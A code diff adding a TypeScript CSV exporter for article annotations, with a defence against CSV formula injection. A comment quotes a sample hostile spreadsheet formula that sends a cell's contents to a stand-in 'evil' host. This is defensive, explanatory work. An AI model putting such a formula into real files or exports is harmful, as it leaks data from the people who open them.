@@ -1,0 +1,65 @@
+import { stringify } from "csv-stringify/sync";
+import type { AnnotationView } from "../services/annotation-view.ts";
+import type { ExportArticle, ExportData } from "./load.ts";
+
+type Cell = string | number;
+
+const COLUMNS: [header: string, read: (a: AnnotationView, article: ExportArticle) => Cell | null | undefined][] = [
+  ["id", (a) => a.id],
+  ["article_id", (_, article) => article.id],
+  ["article_title", (_, article) => article.title],
+  ["kind", (a) => a.kind],
+  ["status", (a) => a.status],
+  ["visibility", (a) => a.visibility],
+  ["author_name", (a) => a.author.name],
+  ["created", (a) => new Date(a.createdAt).toISOString()],
+  ["updated", (a) => new Date(a.updatedAt).toISOString()],
+  ["quote", (a) => a.target?.exact],
+  ["start", (a) => a.target?.start],
+  ["end", (a) => a.target?.end],
+  ["body", (a) => a.body],
+  ["tags", (a) => a.tags.join(";")],
+  ["claim", (a) => a.factcheck?.claim],
+  ["verdict", (a) => a.factcheck?.verdict],
+  ["confidence", (a) => a.factcheck?.confidence],
+  ["sources", (a) => a.factcheck?.sources.map((s) => s.url).join(" ")],
+  ["resolved", (a) => String(a.resolved)],
+  ["parent_id", (a) => a.parentId],
+  ["votes_agree", (a) => a.votes.agree],
+  ["votes_disagree", (a) => a.votes.disagree],
+  ["anchor_state", (a) => a.anchor.state],
+];
+
+export const CSV_HEADER = COLUMNS.map(([header]) => header);
+
+/**
+ * A spreadsheet treats a cell that starts with one of these as a formula, so
+ * a body such as `=HYPERLINK("http://evil/?"&A1)` would run when a colleague
+ * opens the export (OWASP "CSV injection"). A leading apostrophe makes
+ * Excel, LibreOffice and Sheets show the text as typed. It is applied to every
+ * text cell, ids included, because the file's author cannot know which
+ * columns a reader will open; numbers are written as numbers and left alone.
+ */
+const FORMULA_START = /^[=+\-@\t\r]/;
+
+export function neutralizeFormula(cell: string): string {
+  return FORMULA_START.test(cell) ? `'${cell}` : cell;
+}
+
+/**
+ * One row per annotation, header first, RFC 4180 (CRLF, quoted as needed).
+ * The byte-order mark is what makes Excel read the file as UTF-8 rather than
+ * the machine's legacy code page, which would garble every non-ASCII name.
+ */
+export function toCsv(data: ExportData): string {
+  const rows = data.articles.flatMap((article) =>
+    article.annotations.map((a) =>
+      COLUMNS.map(([, read]) => {
+        const value = read(a, article);
+        if (value === null || value === undefined) return "";
+        return typeof value === "number" ? value : neutralizeFormula(value);
+      }),
+    ),
+  );
+  return stringify([CSV_HEADER, ...rows], { bom: true, record_delimiter: "windows" });
+}
